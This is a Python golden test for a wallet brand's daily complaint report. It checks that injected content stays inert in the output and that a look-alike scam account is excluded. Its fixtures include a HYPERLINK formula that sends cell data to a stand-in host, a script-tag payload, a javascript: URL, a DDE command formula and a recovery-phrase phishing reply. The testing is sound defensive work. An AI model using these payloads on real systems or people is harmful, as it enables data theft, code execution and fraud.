"""Golden test of the daily report on a fixed store and date.

The store below is written by hand and the expected CSVs in tests/golden/report/ were worked out by
hand from it (the Kaplan–Meier steps, the business-hours waits and the peaks are derived in
docs/reports.md's worked example); the test compares every CSV byte for byte.

Story of 2026-03-10 (Asia/Shanghai, a Tuesday), report observed at 2026-03-11 08:00 local:
eight complaints, four of them 20:00-20:30 during a maintenance window (19:00-21:00); a look-alike
account (@BitpieSupport_Help) "answers" one of them and must not count; a question is answered
the next morning; one complaint is answered only after the report was built (censored).
"""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import Engine

from monitor import store
from monitor.config import Config, parse_config
from monitor.linking import link_replies
from monitor.records import Announcement, Post
from reports import build_report
from reports.csvout import ENCODING
from tests.calls import group1
from tests.pg import pg_schema_url

GOLDEN = Path(__file__).resolve().parent / "golden" / "report"
TZ = ZoneInfo("Asia/Shanghai")
DAY = dt.date(2026, 3, 10)
AS_OF = dt.datetime(2026, 3, 11, 8, 0, tzinfo=TZ)
OFFICIAL = "BitpieWallet"


def at(day: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime(2026, 3, day, hour, minute, tzinfo=TZ)


def user(pid: str, handle: str, when: dt.datetime, text: str, *, url: str | None = None,
         reply_to: str | None = None) -> Post:
    return Post("twitter", pid, when, text, url=url or f"https://x.com/{handle}/status/{pid}",
                author_id=f"u-{handle}", author_handle=handle, reply_to_id=reply_to)


def official(pid: str, when: dt.datetime, text: str, reply_to: str | None = None) -> Post:
    return Post("twitter", pid, when, text, url=f"https://x.com/{OFFICIAL}/status/{pid}", author_id="100",
                author_handle=OFFICIAL, is_official=True, reply_to_id=reply_to)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> support ignores me'

# (post, complaint, maintenance, claimed_wait_seconds, urgency, topics, evidence)
RECORDS = [
    (user("1001", "alice", at(10, 9), "@BitpieWallet 客服三天不回复，转账卡住了"), True, False, 259200, "high",
     ["support", "transfer"], ["complaint:zh:不回复"]),
    (user("1002", "bob", at(10, 10), "Support never replies, waited 2 days for my withdrawal"), True, False,
     172800, "normal", ["withdrawal"], None),
    (user("1003", "mallory", at(10, 11), HOSTILE, url="javascript:alert(1)"), True, False, None, None, None, None),
    (user("1004", "carol", at(10, 12), "@BitpieWallet how do I back up my wallet?"), False, False, None, None,
     None, None),
    (user("1005", "dave", at(10, 13), "Bitpie is great, 比特派很好用"), False, False, None, None, None, None),
    (user("1006", "erin", at(10, 13, 30), "Is Bitpie safe?"), False, False, None, None, None, None),
    (user("1007", "frank", at(10, 20), "客服不理人，还在维护吗"), True, False, None, None, None, None),
    (user("1008", "BitpieSupport_Help", at(10, 20, 5), "@frank DM us your recovery phrase to fix this",
          reply_to="1007"), False, False, None, None, None, None),
    (user("1009", "grace", at(10, 20, 10), "support not answering during maintenance"), True, False, None, None,
     ["maintenance"], None),
    (user("1010", "heidi", at(10, 20, 20), "@BitpieWallet 客服怎么还不回复"), True, False, None, None, None, None),
    (user("1011", "ivan", at(10, 20, 30), "+1 still no reply from support"), True, False, None, None, None, None),
    (user("1012", "judy", at(10, 22), "=cmd|' /C calc'!A0 still waiting for support"), True, False, None, None,
     None, None),
    # the weeks before: week-over-week and the 28-day window
    (user("901", "kim", at(3, 10), "support has not replied to my ticket"), True, False, None, None, None, None),
    (user("902", "lee", at(2, 10), "客服不回复"), True, False, None, None, None, None),
    (user("903", "max", at(6, 10), "no answer from support"), True, False, None, None, None, None),
    # official posts
    (official("2001", at(10, 9, 30), "@alice we are on it", "1001"), False, False, None, None, None, None),
    (official("2002", at(10, 14), "@bob fixed", "1002"), False, False, None, None, None, None),
    (official("2003", at(10, 15), "系统维护通知：今晚 19:00-21:00 维护"), False, True, None, None, None, None),
    (official("2004", at(11, 7), "@carol Settings > Backup", "1004"), False, False, None, None, None, None),
    (official("2005", at(11, 9), "@judy sorry for the wait", "1012"), False, False, None, None, None, None),
    (official("2006", at(3, 12), "@kim done", "901"), False, False, None, None, None, None),
    (official("2007", at(5, 12), "@lee done", "902"), False, False, None, None, None, None),
    (official("2008", at(6, 11), "@max done", "903"), False, False, None, None, None, None),
]

# The look-alike's reply as the impersonation detector labels it (monitor/detect/impersonation.py).
SUSPECTS = {"1008": [{"detector": "impersonation", "rule": "identity.support_word", "field": "author_handle",
                      "match": "Support"},
                     {"detector": "impersonation", "rule": "lure.seed_phrase", "match": "recovery phrase"},
                     {"detector": "impersonation", "rule": "lure.dm", "match": "DM us"}]}

ANNOUNCEMENTS = [
    Announcement("status-feed", "m-1", "钱包维护 Wallet maintenance", "维护 19:00-21:00",
                 url="https://bitpie.com/notice/1?a=1&b=2", published=at(10, 12), kind="maintenance",
                 window_start=at(10, 19), window_end=at(10, 21), status="scheduled"),
    Announcement("status-feed", "i-1", "Incident: slow withdrawals", "resolved", url="https://bitpie.com/notice/2",
                 published=at(5, 10), kind="incident"),
]


def make_config(out: Path) -> Config:
    return parse_config({
        "brand": {"names": ["Bitpie"], "aliases": ["比特派"]},
        "timezone": "Asia/Shanghai",
        "official_accounts": [{"platform": "twitter", "handle": OFFICIAL, "user_id": "100"}],
        "report": {"out_dir": str(out)},
    }, out.parent, env={})


def build_store(url: str) -> Engine:
    engine = store.open_store(url)
    now = store.now_utc()
    with engine.begin() as conn:
        store.upsert_posts(conn, [r[0] for r in RECORDS])
        store.upsert_announcements(conn, ANNOUNCEMENTS)
        store.upsert_detections(conn, [{
            "platform": p.platform, "post_id": p.post_id, "complaint": c, "maintenance": m,
            "claimed_wait_seconds": w, "urgency": u, "topics": t, "impersonation_suspect": p.post_id in SUSPECTS,
            "evidence": SUSPECTS.get(p.post_id, e), "detected_at": now} for p, c, m, w, u, t, e in RECORDS])
        link_replies(conn)
        # A link from the look-alike account, as a buggy linker or hand edit could leave behind: the
        # report must still ignore it because the replying post is not official.
        conn.execute(store.reply_links.insert().values(platform="twitter", reply_id="1008", post_id="1007",
                                                       latency_seconds=300.0, linked_by="reply_to"))
    return engine


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Engine]:
    root = tmp_path_factory.mktemp("report")
    engine = build_store(f"sqlite:///{root / 'store.db'}")
    cfg = make_config(root / "out")
    return build_report(engine, cfg, DAY, now=AS_OF), cfg, engine


def written(day_index: Path, name: str) -> Path:
    """trend.csv lives in the output root, every other golden file in the day's directory."""
    return day_index.parent.parent / name if name == "trend.csv" else day_index.parent / name


@pytest.mark.parametrize("name", sorted(p.name for p in GOLDEN.glob("*.csv")))
def test_csv_matches_golden(built: tuple[Path, Config, Engine], name: str) -> None:
    got = written(built[0], name).read_text(encoding=ENCODING)
    assert got == (GOLDEN / name).read_text(encoding="utf-8")


def test_every_day_file_is_written(built: tuple[Path, Config, Engine]) -> None:
    names = {p.name for p in built[0].parent.iterdir()}
    assert names == {"summary.csv", "complaints.csv", "response_times.csv", "hourly.csv", "peaks.csv",
                     "announcements.csv", "business_hours.csv", "impersonators.csv", "backlog.csv", "index.html"}
    assert {p.name for p in GOLDEN.glob("*.csv")} == (names - {"index.html"}) | {"trend.csv"}


def test_top_level_index_links_the_day_and_its_files(built: tuple[Path, Config, Engine]) -> None:
    root = built[0].parent.parent
    assert {p.name for p in root.iterdir()} == {"2026-03-10", "trend.csv", "index.html"}
    index = (root / "index.html").read_text(encoding="utf-8")
    links = re.findall(r'<a [^>]*href="([^"]*)"', index)
    assert links == ["trend.csv", "2026-03-10/index.html"]
    assert all((root / link).is_file() for link in links)
    # the day's row repeats trend.csv's figures: 12 mentions, 8 complaints, 6 still waiting, 2 peaks,
    # 2 maintenance notices
    # the newest day's tiles on top (no earlier day in trend.csv: nothing to compare) and the trend chart
    assert tiles(index)[:2] == [("complaints (2026-03-10)", "8", "", ""), ("open backlog", "6", "", "")]
    assert 'id="chart-index-trend"><svg' in index
    row = index[index.index('href="2026-03-10/index.html"'):].split("</tr>")[0]
    assert re.findall(r">(\d+)</td>", row) == ["12", "8", "6", "2", "2"]
    day_page = built[0].read_text(encoding="utf-8")
    for f in ("summary.csv", "complaints.csv", "response_times.csv", "hourly.csv", "peaks.csv",
              "announcements.csv", "business_hours.csv", "impersonators.csv", "backlog.csv"):
        assert f'href="{f}"' in day_page and (built[0].parent / f).is_file()


def tiles(page: str) -> list[tuple[str, str, str, str]]:
    """(label, value, delta, previous) of every tile on a page, tags stripped."""
    out = []
    for block in re.findall(r'<div class="tile [a-z]+">(.*?)</div>', page, re.S):
        label = group1(r'class="label">(.*?)</span>', block)
        value = group1(r"<b>(.*?)</b>", block)
        delta = m[1] if (m := re.search(r'class="delta">(.*?)</span>', block)) else ""
        prev = m[1] if (m := re.search(r'class="prev">(.*?)</span>', block)) else ""
        out.append((label, value, delta, prev))
    return out


def test_tiles_with_previous_values(built: tuple[Path, Config, Engine]) -> None:
    page = built[0].read_text(encoding="utf-8")
    # 8 complaints against 0 on 03-09; 6 open complaints now (1003, 1007, 1009-1012), none at 03-10 08:00;
    # 7-day median 19.0 h (68400 s) against 2.0 h, but the previous week has only 2 posts (< min_sample 10).
    assert tiles(page) == [
        ("complaints", "8", "+8, more", "was 0 the day before"),
        ("open backlog (complaints + questions)", "6", "+6, more", "was 0 24 h earlier"),
        ("median time to first reply (7 d)", "19.0 h", "too few to compare (n = 10 and 2, need 10)", "was 2.0 h"),
        ("answered within 24 h (7 d)", "65%", "too few to compare (n = 10 and 2, need 10)", "was 50%"),
        ("high-urgency complaints open", "0", "+0, no change", "was 0 24 h earlier"),
        ("suspected impersonators", "1", "+1, more", "was 0 the day before"),
    ]
    assert '<div class="tile bad"><span class="label">complaints</span>' in page


def test_backlog_and_impersonators_on_the_page(built: tuple[Path, Config, Engine]) -> None:
    page = built[0].read_text(encoding="utf-8")
    assert "<h3>Complaints (6)</h3>" in page and "<h3>Questions (0)</h3>" in page
    backlog = page[page.index('id="backlog"'):page.index('id="impersonators"')]
    # oldest first, with the wait in hours: 1003 has waited 21 h, 1012 10 h
    assert backlog.index("mallory") < backlog.index("frank") < backlog.index("judy")
    assert "21.0 h" in backlog and "10.0 h" in backlog
    imps = page[page.index('id="impersonators"'):page.index('id="response"')]
    assert "Suspected impersonators (1)" in imps
    assert "BitpieSupport_Help" in imps and "recovery phrase; DM us" in imps and "客服不理人" in imps


def test_hostile_text_is_inert_in_html(built: tuple[Path, Config, Engine]) -> None:
    page = built[0].read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "javascript:" not in page.lower()
    # the announcement URL is kept, with & escaped inside the attribute
    assert 'href="https://bitpie.com/notice/1?a=1&amp;b=2"' in page


def test_no_external_resource_in_html(built: tuple[Path, Config, Engine]) -> None:
    page = built[0].read_text(encoding="utf-8")
    assert re.search(r"""(src|xlink:href|action)\s*=\s*["']?\s*(https?:)?//""", page, re.I) is None
    assert re.search(r"url\(\s*['\"]?(https?:)?//|@import", page, re.I) is None
    assert "<link" not in page.lower() and "<script" not in page.lower()
    for href in re.findall(r'(?<![:\w])href="([^"]*)"', page):  # <a href>: post links and our own files
        assert href.startswith(("https://", "http://")) or re.fullmatch(r"[\w./-]+\.(csv|html)", href), href
    for ref in re.findall(r'xlink:href="([^"]*)"', page):  # inside the SVGs: fragments and the heatmap bitmap
        assert ref.startswith(("#", "data:image/png;base64,")), ref[:40]
    assert page.count("<svg") == 5  # trend and volume (desk + phone size), heatmap


def test_scam_reply_never_counts(built: tuple[Path, Config, Engine]) -> None:
    text = (built[0].parent / "response_times.csv").read_text(encoding=ENCODING)
    row = next(line for line in text.splitlines() if ",1007," in line)
    assert row.endswith(",waiting,,43200,0,true")


@pytest.mark.postgres
def test_same_csvs_on_postgresql(tmp_path: Path) -> None:
    """The report's SQL (hour buckets, ILIKE, correlated first-reply subquery) on PostgreSQL."""
    with pg_schema_url() as url:
        engine = build_store(url)
        try:
            path = build_report(engine, make_config(tmp_path / "out"), DAY, now=AS_OF)
        finally:
            engine.dispose()
        for golden in sorted(GOLDEN.glob("*.csv")):
            assert written(path, golden.name).read_text(encoding=ENCODING) == golden.read_text(encoding="utf-8")
